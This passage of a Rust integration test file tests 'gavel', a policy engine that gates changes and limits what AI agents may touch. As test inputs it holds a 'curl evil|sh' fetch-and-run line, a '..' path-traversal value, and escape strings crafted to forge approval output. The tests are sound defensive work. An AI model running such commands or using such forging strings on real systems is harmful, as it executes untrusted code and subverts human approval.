//! `gavel eval` and `gavel test` end to end.

use crate::support::Cli;

const KEY: &str = "ed25519:WxS2wFwZ/2OmFMeaJ+E250HCqshlnWuT+E0PltapeAA=";

fn policy() -> String {
    format!(
        r#"policy "deploys"
environments dev -> staging -> prod
roles admin, tech_lead
approver "alice@example.com" roles admin key "{KEY}"
approver "bob@example.com" roles tech_lead key "ed25519:IGRuq8g82PW3zmamD7pTVJfNSAeESEamr98mxNc2gT0="
paths secrets [".env*", "**/.env*"]
paths docs ["docs/**"]
default require 1 approval from admin, tech_lead within 1h
rule docs "Docs only" {{
  when all files in docs and lines.changed <= 100
  then auto_approve
}}
rule secrets {{
  when any file in secrets and actor is agent
  then block "agents may not touch secrets ({{files.count}} files)"
}}
rule prod {{
  when environment == prod
  then require 2 approvals from admin, tech_lead within 24h humans_only
}}
"#
    )
}

fn cli() -> Cli {
    Cli::new().file("policies/main.gavel", policy())
}

const NOW: &str = "2026-03-01T12:00:00Z";

#[test]
fn auto_approve_exits_zero_and_explains() {
    let out = cli()
        .file(
            "req.json",
            r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},
               "files":[{"path":"docs/a.md","added":30}]}"#,
        )
        .args(["eval", "--request", "req.json", "--now", NOW])
        .output();
    out.code(0)
        .stdout_has("AUTO-APPROVED by rule `docs`\n")
        .stdout_has("docs/a.md matched \"docs/**\" in `docs`")
        .stdout_has("lines.changed <= 100  [30 vs 100]");
}

#[test]
fn approval_required_exits_two_and_says_what_would_unblock() {
    let out = cli()
        .args(["eval", "--env", "prod", "--actor", "carol", "--now", NOW])
        .output();
    out.code(2)
        .stdout_has("APPROVAL REQUIRED")
        .stdout_has("needs 2 more approvals from admin or tech_lead, humans only by 2026-03-02 12:00 UTC (`prod`)");
}

#[test]
fn block_exits_three_with_interpolated_reason() {
    let out = cli()
        .file(
            "req.yaml",
            "action: apply_patch\nenvironment: dev\nactor: {id: bot, kind: agent}\nfiles:\n  - {path: config/.env.local, added: 1}\n",
        )
        .args(["eval", "--request", "req.yaml", "--now", NOW, "--format", "json"])
        .output();
    out.code(3);
    let json = out.json();
    assert_eq!(json["outcome"], "block");
    assert_eq!(
        json["reasons"][0],
        "agents may not touch secrets (1 files) (rule `secrets`)"
    );
    assert_eq!(
        json["fired"][0]["evidence"][0]["files"][0]["pattern"],
        "**/.env*"
    );
}

#[test]
fn input_errors_exit_one_and_block() {
    let out = cli()
        .stdin(r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},"files":[{"path":"docs/../src/x.rs"}]}"#)
        .args(["eval", "--request", "-", "--now", NOW, "--format", "json"])
        .output();
    out.code(1)
        .stderr_has("`files[0].path`: `docs/../src/x.rs`: the path has a `..` segment");
    assert_eq!(out.json()["outcome"], "block");

    let out = cli()
        .stdin(r#"{"action":"apply_patch","actor":{"id":"a","kind":"agent","rolez":[]}}"#)
        .args(["eval", "--request", "-", "--now", NOW])
        .output();
    out.code(1)
        .stderr_has("`actor.rolez`: unknown field `rolez`")
        // The summary's own line names the field too (found by QA: it dropped it).
        .stdout_has("\ninput error: `actor.rolez`: unknown field `rolez`");

    cli()
        .args(["eval", "--env", "moon", "--now", NOW])
        .output()
        .code(1)
        .stderr_has("environment `moon` is not declared");
}

/// Flags replace fields of a request file; they do not complete a partial one, and the
/// error says so when a flag was given for the missing field.
#[test]
fn a_flag_does_not_stand_in_for_a_field_the_request_file_lacks() {
    for (document, flags, field, flag) in [
        (
            r#"{"actor":{"id":"a","kind":"agent"}}"#,
            &["--action", "deploy"][..],
            "`action`: missing field `action`",
            "(--action replaces a field",
        ),
        (
            r#"{"action":"deploy"}"#,
            &["--actor", "a", "--actor-kind", "agent"][..],
            "`actor`: missing field `actor`",
            "(--actor replaces a field",
        ),
    ] {
        let out = cli()
            .stdin(document)
            .args([&["eval", "--request", "-", "--now", NOW][..], flags].concat())
            .output();
        out.code(1).stderr_has(field).stderr_has(flag);
        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    }
    // Without the flag, the error is the document's alone.
    let out = cli()
        .stdin(r#"{"actor":{"id":"a","kind":"agent"}}"#)
        .args(["eval", "--request", "-", "--now", NOW])
        .output();
    out.code(1).stderr_has("`action`: missing field `action`");
    assert!(!out.stderr.contains("replaces"), "{}", out.stderr);
}

/// A request over `MAX_REQUEST_BYTES` is refused with its real size when the file system
/// knows it (a regular file, not read at all), else as "more than" the limit (a device,
/// stdin), which is read only up to one byte over it: one line, exit 1, a block.
#[test]
fn an_oversize_request_names_its_real_size_or_more_than_the_limit() {
    let refused = |out: &crate::support::Output, line: &str| {
        out.code(1).stderr_has(line).stdout_has("BLOCKED");
        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    };
    // A sparse 200 MB file: its size comes from the file system.
    let big = cli();
    std::fs::File::create(big.path().join("big.json"))
        .unwrap()
        .set_len(209_715_318)
        .unwrap();
    let (out, ws) = big
        .args(["eval", "--request", "big.json", "--now", NOW, "--no-audit"])
        .run();
    refused(
        &out,
        "error: the request is 209715318 bytes, more than the limit of 33554432\n",
    );
    // `verify` and `approve` read their file the same way, and name it.
    for args in [
        &["verify", "big.json"][..],
        &[
            "approve", "big.json", "--key", "k", "--as", "a", "--role", "admin",
        ],
    ] {
        ws.run(args)
            .code(1)
            .stderr_has("error: `big.json` is 209715318 bytes, more than the limit of 33554432\n");
    }
    // Stdin has no size to tell: one byte over the limit is enough to refuse it.
    let out = cli()
        .stdin(vec![b' '; 33_554_433])
        .args(["eval", "--request", "-", "--now", NOW, "--no-audit"])
        .output();
    refused(
        &out,
        "error: the request is more than 33554432 bytes, the limit\n",
    );
    // Nor has a device; an endless one ends.
    if std::path::Path::new("/dev/zero").exists() {
        let out = cli()
            .args(["eval", "--request", "/dev/zero", "--now", NOW])
            .args(["--no-audit", "--format", "json"])
            .output();
        out.code(1)
            .stderr_has("error: the request is more than 33554432 bytes, the limit\n");
        assert_eq!(
            out.json()["input_error"]["message"],
            "the request is more than 33554432 bytes, the limit"
        );
    }
}

#[test]
fn promotion_skipping_an_environment_names_the_next() {
    let out = cli()
        .args([
            "eval",
            "--action",
            "promote",
            "--from-env",
            "dev",
            "--env",
            "prod",
            "--now",
            NOW,
        ])
        .output();
    out.code(3)
        .stdout_has("cannot skip environments: promote `dev` -> `staging` first");
}

#[test]
fn identical_inputs_give_byte_identical_json() {
    let run = || {
        cli()
            .args([
                "eval", "--env", "prod", "--actor", "carol", "--now", NOW, "--format", "json",
            ])
            .output()
            .stdout
    };
    assert_eq!(run(), run());
}

#[test]
fn dry_run_never_authorizes() {
    let out = cli()
        .file(
            "req.json",
            r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},
               "files":[{"path":"docs/a.md","added":3}],"mode":"dry_run"}"#,
        )
        .args([
            "eval",
            "--request",
            "req.json",
            "--now",
            NOW,
            "--format",
            "json",
        ])
        .output();
    // `gavel eval ... && deploy` must not deploy: a dry run that would proceed exits 4.
    out.code(4);
    let json = out.json();
    assert_eq!(json["outcome"], "auto_approve");
    assert_eq!(json["dry_run"], true);
    assert_eq!(json["authorizes"], false);
}

#[test]
fn dry_run_exit_codes_follow_authorizes_not_the_outcome() {
    let docs = r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},
               "files":[{"path":"docs/a.md","added":3}]}"#;
    let eval = |extra: &[&str]| {
        cli()
            .file("req.json", docs)
            .args(["eval", "--request", "req.json", "--now", NOW, "--no-audit"])
            .args(extra)
            .output()
    };
    // The same request: 0 when executed, 4 with --dry-run (it would proceed, authorizes nothing).
    eval(&[]).code(0).stdout_has("AUTO-APPROVED by rule `docs`");
    eval(&["--dry-run"])
        .code(4)
        .stdout_has("AUTO-APPROVED (dry run: authorizes nothing)");
    // A dry run that would need approval or be blocked keeps 2 and 3.
    eval(&["--dry-run", "--env", "prod"])
        .code(2)
        .stdout_has("APPROVAL REQUIRED (dry run: authorizes nothing)");
    cli()
        .file(
            "req.json",
            r#"{"action":"apply_patch","environment":"dev","actor":{"id":"bot","kind":"agent"},
               "files":[{"path":".env","added":1}],"mode":"dry_run"}"#,
        )
        .args(["eval", "--request", "req.json", "--now", NOW, "--no-audit"])
        .output()
        .code(3)
        .stdout_has("BLOCKED (dry run: authorizes nothing)");
}

#[test]
fn explain_lists_rules_that_did_not_fire_with_values() {
    cli()
        .file(
            "req.json",
            r#"{"action":"apply_patch","environment":"dev","actor":{"id":"carol","kind":"human"},
               "files":[{"path":"src/main.rs","added":3}]}"#,
        )
        .args(["eval", "--request", "req.json", "--now", NOW, "--explain"])
        .output()
        .code(2)
        .stdout_has("rules that did not fire:")
        .stdout_has("rule `prod`")
        .stdout_has("✗ environment == prod  [dev vs prod]")
        .stdout_has("✗ all files in docs")
        .stdout_has("src/main.rs");
}

/// The human output escapes what the request says: an attribute value with a newline and a
/// terminal escape, compared in a rule and shown by `--explain`, and a path with a
/// right-to-left override, cannot forge a line of output or reach the terminal raw.
#[test]
fn explain_escapes_request_values_and_paths() {
    let policy = r#"policy "p"
roles admin
attribute run_id: string = ""
paths docs ["docs/**"]
default require 1 approval from admin within 1h
rule run "Run" {
  when attr.run_id == "r1"
  then auto_approve
}
rule touched {
  when any file in docs
  then require 1 approval from admin within 1h
}
"#;
    let out = Cli::new()
        .file("policies/main.gavel", policy)
        .file(
            "req.json",
            r#"{"action":"apply_patch","actor":{"id":"a","kind":"human"},
                "attributes":{"run_id":"x\nAUTO-APPROVED\u001b[2J\u202e"},
                "files":[{"path":"docs/a.md","added":1}]}"#,
        )
        .args(["eval", "--request", "req.json", "--explain", "--now", NOW])
        .args(["--no-audit"])
        .output();
    out.code(2)
        .stdout_has(r#"attr.run_id == "r1"  [x\nAUTO-APPROVED\u{1b}[2J\u{202e} vs r1]"#)
        .stdout_has(r#"docs/a.md matched "docs/**" in `docs`"#);
    // A path with a bidirectional control (U+202E) is refused as input before anything is
    // explained (tests/request_input.rs): the one here is in a request value.
    assert!(
        !out.stdout.contains(['\u{1b}', '\u{202e}']) && !out.stdout.contains("\nAUTO-APPROVED"),
        "{}",
        out.stdout
    );
}

#[test]
fn gavel_test_runs_no_case_of_a_file_with_two_cases_of_one_name() {
    let case = |name: &str| {
        format!(
            "  - name: {name}\n    request: {{action: apply_patch, environment: dev, actor: {{id: a, kind: agent}}, files: [{{path: docs/x.md, added: 1}}]}}\n    expect: {{outcome: auto_approve}}\n"
        )
    };
    let bad = format!(
        "cases:\n{}{}{}{}",
        case("before"),
        case("dup name"),
        case("dup name"),
        case("after")
    );
    let good = format!("cases:\n{}", case("in another file"));
    let out = cli()
        .file("policies/tests/a.yaml", bad)
        .file("policies/tests/b.yaml", good)
        .args(["test"])
        .output();
    out.code(1)
        .stdout_has("  ✗ cannot run this file: two cases are named `dup name`\n")
        .stdout_has("  ✓ in another file\n")
        .stdout_has("\n1 passed, 1 failed\n");
    // Not half-run: neither the case before the duplicate nor the one after it ran.
    assert!(!out.stdout.contains("before"), "{}", out.stdout);
    assert!(!out.stdout.contains("after"), "{}", out.stdout);
}

#[test]
fn gavel_test_names_the_field_of_a_key_given_twice() {
    let tests = "cases:\n  - name: twice\n    request: {action: apply_patch, action: deploy, \
                 actor: {id: a, kind: agent}}\n    expect: {outcome: auto_approve}\n";
    cli()
        .file("policies/tests/a.yaml", tests)
        .args(["test"])
        .output()
        .code(1)
        .stdout_has(
            "  ✗ cannot run this file: `cases[0].request.action`: duplicate key `action`\n",
        );
}

/// Found by QA: a case name, an expectation or a decision message with a newline or an
/// escape printed raw, splitting `gavel test`'s lines. Each is shown escaped.
#[test]
fn gavel_test_shows_names_and_expectations_escaped() {
    let tests = "cases:\n  - name: \"a\\nFORGED\\e[31m\"\n    request: {action: apply_patch, \
                 actor: {id: a, kind: agent}}\n    expect: {outcome: block, reason_contains: \"x\\ny\"}\n";
    let out = cli()
        .file("policies/tests/a.yaml", tests)
        .args(["test"])
        .output();
    out.code(1)
        .stdout_has("  ✗ a\\nFORGED\\u{1b}[31m\n")
        .stdout_has("x\\ny");
    assert!(!out.stdout.contains('\u{1b}'), "{}", out.stdout);
    assert!(!out.stdout.contains("\nFORGED"), "{}", out.stdout);
}

#[test]
fn gavel_test_reports_failures_with_a_diff() {
    let tests = r#"
cases:
  - name: docs are auto-approved
    request: {action: apply_patch, environment: dev, actor: {id: a, kind: agent}, files: [{path: docs/x.md, added: 1}]}
    expect: {outcome: auto_approve, fired: [docs]}
  - name: prod needs two humans
    request: {action: deploy, environment: prod, actor: {id: a, kind: human}}
    expect:
      outcome: require_approval
      gates: [{rule: prod, count: 2, roles: [admin, tech_lead]}]
  - name: deliberately wrong
    request: {action: deploy, environment: prod, actor: {id: a, kind: human}}
    expect: {outcome: auto_approve, fired: [docs, secrets]}
"#;
    let out = cli()
        .file("policies/tests/cases.yaml", tests)
        .args(["test"])
        .output();
    out.code(1)
        .stdout_has("✓ docs are auto-approved")
        .stdout_has("✓ prod needs two humans")
        .stdout_has("✗ deliberately wrong")
        .stdout_has("outcome: expected auto_approve, got require_approval")
        .stdout_has("fired: expected but did not fire [secrets]; fired unexpectedly [prod]")
        .stdout_has("2 passed, 1 failed");
}

/// `--filter` lists only the files that have a selected case (or cannot run), and a file of
/// the wrong shape says what a test file is, not a Rust type name.
#[test]
fn gavel_test_filter_lists_only_files_with_selected_cases() {
    let case = |name: &str| {
        format!(
            "cases:\n  - name: {name}\n    request: {{action: apply_patch, environment: dev, actor: {{id: a, kind: agent}}, files: [{{path: docs/x.md, added: 1}}]}}\n    expect: {{outcome: auto_approve}}\n"
        )
    };
    let out = cli()
        .file("policies/tests/one.yaml", case("docs one"))
        .file("policies/tests/two.yaml", case("docs two"))
        .file("policies/tests/bad.yaml", "cases: 5\n")
        .args(["test", "--filter", "two"])
        .output();
    out.code(1)
        .stdout_has("two.yaml\n  ✓ docs two")
        .stdout_has("bad.yaml\n  ✗ cannot run this file: `cases`: invalid type: integer `5`, expected a sequence")
        .stdout_has("1 passed, 1 failed");
    assert!(!out.stdout.contains("one.yaml"), "{}", out.stdout);
    let out = cli()
        .file("policies/tests/bad.yaml", "just text\n")
        .args(["test"])
        .output();
    out.code(1)
        .stdout_has("expected a test file: a mapping with `cases`, a list of cases");
}

#[test]
fn gavel_test_fails_when_it_tests_nothing_or_an_expectation_checks_nothing() {
    let file = |expect: &str| {
        format!(
            "cases:\n  - name: docs\n    request: {{action: apply_patch, environment: dev, actor: {{id: a, kind: agent}}, files: [{{path: docs/x.md, added: 1}}]}}\n    expect: {{outcome: auto_approve{expect}}}\n"
        )
    };
    // A filter that selects no case, and policies without tests, test nothing: exit 1.
    cli()
        .file("policies/tests/one.yaml", file(""))
        .args(["test", "--filter", "dcos"])
        .output()
        .code(1)
        .stdout_has("0 passed, 0 failed")
        .stderr_has("error: no test case ran: no case name contains `dcos`");
    cli()
        .args(["test"])
        .output()
        .code(1)
        .stderr_has("error: no test case ran: no policy has test files in its tests/");
    // Expectations that pass whatever the policy decides make the file unrunnable.
    for (expect, says) in [
        (
            ", risk: {}",
            "case `docs`: `risk` names neither `score` nor `level`, so it checks nothing",
        ),
        (
            ", reason_contains: \"\"",
            "case `docs`: `reason_contains` is empty, so every decision contains it",
        ),
        (
            ", fired: [docs, docs]",
            "case `docs`: `fired` lists `docs` twice; it is the set of rules that fired",
        ),
        (
            ", gates: [{rule: a}, {rule: a}]",
            "case `docs`: `gates` lists `a` twice",
        ),
        (
            ", risk: {score: high}",
            "case `docs`: `risk.score` `high` is not a number",
        ),
        // Expectations that can only fail (found by QA): a gate of a rule that does not
        // `require`, a risk score under a policy without a risk block or out of range.
        (
            ", gates: [{rule: docs}]",
            "case `docs`: `gates` lists `docs`, a rule that does not `require` approvals, so \
             it never has a gate",
        ),
        (
            ", gates: [{rule: secrets}]",
            "case `docs`: `gates` lists `secrets`, a rule that does not `require` approvals",
        ),
        (
            ", risk: {level: high}",
            "case `docs`: `risk` is expected, but the policy has no `risk` block, so no \
             decision has a risk score",
        ),
        (
            ", risk: {score: \"100.5\"}",
            "case `docs`: `risk.score` `100.5` is outside 0 to 100, where every score lies",
        ),
    ] {
        cli()
            .file("policies/tests/one.yaml", file(expect))
            .args(["test"])
            .output()
            .code(1)
            .stdout_has(&format!("✗ cannot run this file: {says}"))
            .stdout_has("0 passed, 1 failed");
    }
    // The same case, checking something, runs.
    cli()
        .file("policies/tests/one.yaml", file(", fired: [docs]"))
        .args(["test"])
        .output()
        .code(0)
        .stdout_has("1 passed, 0 failed");
}

#[test]
fn git_range_builds_the_request() {
    let text: String = (1..=40).map(|i| format!("line {i}\n")).collect();
    let cli = cli().file("repo/docs/a.md", &text);
    let repo = cli.path().join("repo");
    let git = |args: &[&str]| crate::support::git(&repo, args);
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "base"]);
    git(&["mv", "docs/a.md", "docs/b.md"]);
    std::fs::write(repo.join("docs/b.md"), format!("{text}one more\n")).unwrap();
    std::fs::write(repo.join(".env"), "SECRET=1\n").unwrap();
    git(&["add", "."]);
    git(&["commit", "-qm", "change"]);
    let out = cli
        .args([
            "eval",
            "--git",
            "HEAD~1..HEAD",
            "--repo",
            "repo",
            "--env",
            "dev",
            "--actor",
            "bot",
            "--actor-kind",
            "agent",
            "--now",
            NOW,
            "--format",
            "json",
        ])
        .output();
    out.code(3);
    let json = out.json();
    // The rename is one entry; the added `.env` another.
    assert_eq!(json["request"]["files"], 2);
    assert_eq!(json["request"]["lines_added"], 2);
    assert_eq!(json["fired"][0]["rule"], "secrets");
    let evidence = &json["fired"][0]["evidence"][0]["files"][0];
    assert_eq!(evidence["file"], ".env");
}

#[test]
fn git_with_a_request_file_that_lists_files_is_an_input_error() {
    // The diff would replace the request file's files: they used to vanish without a word.
    let cli = cli().file("repo/docs/a.md", "a\n").file(
        "req.json",
        r#"{"action":"apply_patch","environment":"dev","actor":{"id":"u","kind":"human"},
           "files":[{"path":"src/evil.py","added":1000}]}"#,
    );
    let repo = cli.path().join("repo");
    let git = |args: &[&str]| crate::support::git(&repo, args);
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "base"]);
    std::fs::write(repo.join("docs/a.md"), "a\nb\n").unwrap();
    git(&["commit", "-qam", "change"]);
    let (out, ws) = cli
        .args([
            "eval",
            "--request",
            "req.json",
            "--git",
            "HEAD~1..HEAD",
            "--repo",
            "repo",
            "--now",
            NOW,
            "--no-audit",
            "--format",
            "json",
        ])
        .run();
    out.code(1).stderr_has(
        "error: `files`: `req.json` lists 1 file and --git builds the files from the diff; give one or the other\n",
    );
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    let json = out.json();
    assert_eq!(json["outcome"], "block");
    assert_eq!(json["authorizes"], false);
    // A request file without files still combines with --git (the docs change auto-approves).
    ws.write(
        "req.json",
        r#"{"action":"apply_patch","environment":"dev","actor":{"id":"u","kind":"human"}}"#,
    );
    ws.run([
        "eval",
        "--request",
        "req.json",
        "--git",
        "HEAD~1..HEAD",
        "--repo",
        "repo",
        "--now",
        NOW,
        "--no-audit",
    ])
    .code(0)
    .stdout_has("AUTO-APPROVED by rule `docs`");
}

#[test]
fn attr_and_usage_flags_refuse_a_key_given_twice_or_an_empty_key() {
    let policy = r#"policy "flags"
environments dev
roles admin
default require 1 approval from admin
attribute size: number = 0
rule small "Small" {
  when attr.size <= 10 and usage.runs < 5
  then auto_approve
}
"#;
    let eval = |flags: &[&str]| {
        Cli::new()
            .file("policies/main.gavel", policy)
            .args(["eval", "--env", "dev", "--now", NOW, "--no-audit"])
            .args(flags)
            .output()
    };
    // Without duplicates the flags decide (any key a request document accepts, with `.`,
    // `-` or spaces in it, is still a key for --usage).
    eval(&[
        "--attr",
        "size=3",
        "--usage",
        "runs=1",
        "--usage",
        "odd key-1.x=2",
    ])
    .code(0)
    .stdout_has("AUTO-APPROVED by rule `small`");
    for (flags, line) in [
        (
            &["--attr", "size=3", "--attr", "size=30", "--usage", "runs=1"][..],
            "error: --attr gives the key `size` more than once; give each key once\n",
        ),
        (
            &["--attr", "size=3", "--usage", "runs=9", "--usage", "runs=1"],
            "error: --usage gives the key `runs` more than once; give each key once\n",
        ),
        (
            &["--attr", "=1", "--usage", "runs=1"],
            "error: --attr takes KEY=VALUE with a non-empty KEY, got `=1`\n",
        ),
        (
            &["--usage", "runs=1", "--usage", "=1"],
            "error: --usage takes KEY=VALUE with a non-empty KEY, got `=1`\n",
        ),
    ] {
        let out = eval(flags);
        out.code(1).stderr_has(line).stdout_has("BLOCKED");
        assert_eq!(out.stderr.lines().count(), 1, "{flags:?}: {}", out.stderr);
    }
}

/// `--attr` and `--usage` may not take a request past `MAX_ATTRIBUTES` (256) attributes or
/// usage counters: the document parser refuses more, and nothing after it counts them.
#[test]
fn attr_and_usage_flags_stay_within_the_entry_limit() {
    let policy = r#"policy "flags"
environments dev
roles admin
default require 1 approval from admin
rule runs "Few runs" {
  when usage.runs < 5
  then auto_approve
}
"#;
    let eval = |request: Option<String>, flags: Vec<String>| {
        let mut cli = Cli::new().file("policies/main.gavel", policy);
        cli = match request {
            Some(request) => cli
                .file("req.json", request)
                .args(["eval", "--request", "req.json"]),
            None => cli.args(["eval", "--env", "dev"]),
        };
        cli.args(["--now", NOW, "--no-audit"]).args(flags).output()
    };
    let usage = |n: usize| {
        (1..n)
            .flat_map(|i| ["--usage".to_string(), format!("u{i}=1")])
            .chain(["--usage".to_string(), "runs=1".to_string()])
            .collect::<Vec<_>>()
    };
    eval(None, usage(256))
        .code(0)
        .stdout_has("AUTO-APPROVED by rule `runs`");
    let out = eval(None, usage(257));
    out.code(1).stdout_has("BLOCKED").stderr_has(
        "error: `usage`: with --usage, the request has 257 usage counters, more than the \
         limit of 256\n",
    );
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    // 200 attributes from the file and 57 from flags.
    let attributes: Vec<String> = (0..200).map(|i| format!(r#""f{i}":1"#)).collect();
    let request = format!(
        r#"{{"action":"apply_patch","environment":"dev","actor":{{"id":"a","kind":"human"}},"attributes":{{{}}}}}"#,
        attributes.join(",")
    );
    let flags = (0..57)
        .flat_map(|i| ["--attr".to_string(), format!("a{i}=x")])
        .collect();
    let out = eval(Some(request), flags);
    out.code(1).stdout_has("BLOCKED").stderr_has(
        "error: `attributes`: with --attr, the request has 257 attributes, more than the \
         limit of 256\n",
    );
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
}

#[test]
fn a_command_line_that_does_not_parse_exits_1_never_the_approval_code() {
    for args in [
        &["eval", "--aproval", "x.json"][..],
        &["eval", "--actor-kind", "robot"],
        &["eval", "--format", "xml"],
        &["eval", "--now", "yesterday"],
        &["eval", "--require-audit", "--no-audit"],
        &["no-such-command"],
    ] {
        let out = Cli::new().args(args.iter().copied()).output();
        out.code(1);
        assert!(
            out.stderr.starts_with("error: "),
            "{args:?}: {}",
            out.stderr
        );
    }
    Cli::new().args(["eval", "--help"]).output().code(0);
    Cli::new().args(["--version"]).output().code(0);
}

#[test]
fn the_headline_says_the_outcome_once() {
    // The summary starts with its own outcome word (`blocked: ...`) so it stands alone in
    // JSON; the human headline used to repeat it: `BLOCKED: blocked: ...`.
    let block = r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},
                    "files":[{"path":".env","added":1}]}"#;
    let out = cli()
        .file("req.json", block)
        .args(["eval", "--request", "req.json", "--now", NOW, "--no-audit"])
        .output();
    out.code(3)
        .stdout_has("BLOCKED: agents may not touch secrets (1 files) (rule `secrets`)\n");
    assert!(
        !out.stdout.to_lowercase().contains("blocked: blocked"),
        "{}",
        out.stdout
    );
    // The JSON summary is unchanged.
    let json = cli()
        .file("req.json", block)
        .args([
            "eval",
            "--request",
            "req.json",
            "--now",
            NOW,
            "--no-audit",
            "--format",
            "json",
        ])
        .output()
        .json();
    assert_eq!(
        json["summary"],
        "blocked: agents may not touch secrets (1 files) (rule `secrets`)"
    );
    // An input error, and a dry run.
    let out = cli()
        .args([
            "eval",
            "--env",
            "qa",
            "--now",
            NOW,
            "--no-audit",
            "--dry-run",
        ])
        .output();
    out.code(1).stdout_has(
        "BLOCKED (dry run: authorizes nothing): invalid request: `environment`: environment `qa` is not declared",
    );
    assert!(!out.stdout.contains("blocked: "), "{}", out.stdout);
    assert!(!out.stdout.contains("dry run: invalid"), "{}", out.stdout);
}

#[test]
fn a_directory_of_policies_or_none_is_one_line_and_a_block() {
    // `policies/` holding policy directories (the layout `check` and `test` accept) used to
    // print a multi-line `error[E0012]: no policy files` and a footer `policy  (spec )`.
    let (out, ws) = Cli::new()
        .file(
            "policies/autopack/main.gavel",
            "policy \"a\"\ndefault auto_approve\n",
        )
        .file(
            "policies/code-governance/main.gavel",
            "policy \"c\"\ndefault auto_approve\n",
        )
        .args([
            "eval",
            "--policies",
            "policies",
            "--now",
            NOW,
            "--actor",
            "a",
            "--no-audit",
        ])
        .run();
    out.code(1);
    assert_eq!(
        out.stderr,
        "error: `policies` has no .gavel files; it holds the policies autopack, code-governance \
         — choose one with --policies policies/autopack\n"
    );
    assert!(out.stdout.starts_with("BLOCKED: "), "{}", out.stdout);
    out.stdout_has("\npolicy not loaded · request ");
    assert!(!out.stdout.contains("(spec )"), "{}", out.stdout);
    let json = ws.run([
        "eval",
        "--policies",
        "policies",
        "--now",
        NOW,
        "--actor",
        "a",
        "--no-audit",
        "--format",
        "json",
    ]);
    json.code(1);
    let json = json.json();
    assert_eq!(json["outcome"], "block");
    assert_eq!(json["authorizes"], false);
    assert!(
        json["reasons"][0]
            .as_str()
            .unwrap()
            .contains("choose one with --policies policies/autopack")
    );
    // The suggestion works.
    ws.run([
        "eval",
        "--policies",
        "policies/autopack",
        "--now",
        NOW,
        "--actor",
        "a",
        "--no-audit",
    ])
    .code(0);
    // A missing directory: one line too.
    let out = ws.run(["eval", "--policies", "nope", "--now", NOW, "--no-audit"]);
    out.code(1);
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    out.stderr_has("error: policy directory `nope` does not exist;");
    out.stdout_has("policy not loaded");
    // The library says the same in one diagnostic.
    let error = gavel::Policy::load(ws.path().join("policies")).unwrap_err();
    assert_eq!(error.diagnostics.len(), 1);
    assert!(
        error.diagnostics[0]
            .message
            .contains("it holds the policies autopack, code-governance"),
        "{error}"
    );
}

/// Found by QA: an approval of a `--git` decision kept counting after the commit was amended
/// (the request held only paths and counts), and a `.gitattributes` with `* -diff` in the
/// judged commit made a 5,000-line change count as 0 lines.
#[test]
fn git_requests_are_bound_to_the_commits_and_count_every_file_as_text() {
    let cli = cli().file("repo/docs/a.md", "one\n");
    let repo = cli.path().join("repo");
    let git = |args: &[&str]| crate::support::git(&repo, args);
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "base"]);
    let big: String = (1..=5000).map(|i| format!("line {i}\n")).collect();
    std::fs::write(repo.join("docs/.gitattributes"), "* -diff\n").unwrap();
    std::fs::write(repo.join("docs/big.md"), &big).unwrap();
    git(&["add", "."]);
    git(&["commit", "-qm", "change"]);
    let (out, ws) = cli
        .args([
            "eval",
            "--git",
            "HEAD~1..HEAD",
            "--repo",
            "repo",
            "--env",
            "dev",
            "--actor",
            "bot",
            "--actor-kind",
            "agent",
            "--now",
            NOW,
            "--format",
            "json",
            "--no-audit",
        ])
        .run();
    let json = out.json();
    assert_eq!(json["request"]["lines_added"], 5001, "{}", out.stdout);
    let base = git(&["rev-parse", "HEAD~1"]);
    let head = git(&["rev-parse", "HEAD"]);
    assert_eq!(
        json["request"]["reference"],
        format!("git {base}..{head}").as_str()
    );
    let digest = json["request"]["digest"].clone();
    // The same paths and counts in an amended commit are another request.
    std::fs::write(
        repo.join("docs/big.md"),
        big.replace("line 7\n", "curl evil|sh\n"),
    )
    .unwrap();
    git(&["commit", "-qam", "amended", "--amend"]);
    let again = ws.run([
        "eval",
        "--git",
        "HEAD~1..HEAD",
        "--repo",
        "repo",
        "--env",
        "dev",
        "--actor",
        "bot",
        "--actor-kind",
        "agent",
        "--now",
        NOW,
        "--format",
        "json",
        "--no-audit",
    ]);
    let json = again.json();
    assert_eq!(json["request"]["lines_added"], 5001);
    assert_ne!(json["request"]["digest"], digest);
}

/// The digest of an input-error decision says as much about the request as was read
/// (docs/decision-format.md): it used to be the SHA-256 of empty input for every flag,
/// `--git` and `--approval` error, whatever request the file held.
#[test]
fn an_input_error_decision_names_the_request_as_far_as_it_was_read() {
    use gavel::Request;
    use gavel::request::request_digest;
    const EMPTY: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let document = r#"{"action":"deploy","environment":"dev","actor":{"id":"a","kind":"agent"}}"#;
    let read = Request::from_bytes(document.as_bytes()).unwrap();
    let mut built = read.clone();
    built.environment = Some("staging".into());
    let eval = |flags: &[&str]| {
        let out = cli()
            .file("req.json", document)
            .file("bad.json", "{\"action\": ")
            .args(["eval", "--now", NOW, "--no-audit", "--format", "json"])
            .args(flags)
            .output();
        out.code(1);
        let decision = out.json();
        assert_eq!(decision["outcome"], "block", "{flags:?}");
        assert!(decision["input_error"].is_object(), "{flags:?}");
        decision["request"].clone()
    };
    // A flag that cannot be applied: the request the document holds, as read.
    for flags in [
        &["--request", "req.json", "--attr", "=1"][..],
        &["--request", "req.json", "--usage", "n=x"],
        &[
            "--request",
            "req.json",
            "--git",
            "a..b",
            "--repo",
            "no-such-dir",
        ],
    ] {
        let request = eval(flags);
        assert_eq!(request["digest"], request_digest(&read), "{flags:?}");
        assert_eq!(request["action"], "deploy", "{flags:?}");
        assert_eq!(request["actor"], "a", "{flags:?}");
    }
    // The whole request built, then an --approval file that cannot be read: that request.
